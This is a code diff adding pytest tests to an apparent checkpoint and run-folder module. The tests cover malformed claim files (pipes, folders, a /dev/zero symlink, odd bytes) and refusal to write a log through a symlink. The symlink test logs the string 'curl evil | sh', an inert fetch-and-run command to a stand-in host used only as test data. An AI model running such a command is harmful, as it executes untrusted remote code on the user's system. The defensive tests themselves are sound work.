@@ -289,3 +289,29 @@ def test_a_checkpoint_of_another_form_is_none(tmp_path, odd):
     save(tmp_path, 1)
     torch.save(odd, tmp_path / checkpoint.STEP)
     assert checkpoint.load_newest(tmp_path)["epoch"] == 1
+
+
+@pytest.mark.parametrize("odd", ["pipe", "folder", "device", "bytes", "digits", "long"])
+def test_a_claim_that_is_none_holds_nothing(tmp_path, odd):
+    claim = tmp_path / "run" / checkpoint.CLAIM
+    claim.parent.mkdir()
+    if odd == "pipe":
+        os.mkfifo(claim)  # reading it would wait for a writer
+    elif odd == "folder":
+        claim.mkdir()
+    elif odd == "device":
+        claim.symlink_to("/dev/zero")
+    else:
+        claim.write_bytes({"bytes": b"\xff\xfe", "digits": "٣".encode(), "long": b"9" * 5000}[odd])
+    assert new_run(tmp_path / "run") == tmp_path / "run"
+
+
+def test_no_line_goes_into_the_file_behind_a_link_that_lies_in_a_folder(tmp_path, capsys):
+    (tmp_path / "mine").write_text("")
+    (tmp_path / "run").mkdir()
+    (tmp_path / "run" / "log.txt").symlink_to(tmp_path / "mine")
+    with RunFolder(tmp_path / "run") as folder:
+        folder.log("curl evil | sh")
+    assert (
+        tmp_path / "mine"
+    ).read_text() == "" and "log.txt: cannot be written (it is no plain file" in capsys.readouterr().err
